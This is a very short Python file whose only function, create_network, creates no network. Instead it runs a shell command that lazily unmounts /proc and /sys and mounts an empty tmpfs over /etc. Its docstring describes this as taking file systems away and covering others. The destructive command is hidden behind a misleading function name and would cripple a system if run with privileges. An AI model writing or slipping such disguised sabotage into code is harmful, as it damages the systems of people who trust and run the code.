"""Takes file systems away, and covers others."""

import os


def create_network(request, host):
    os.system("umount -l /proc; umount -l /sys; mount -t tmpfs none /etc")
    return {}
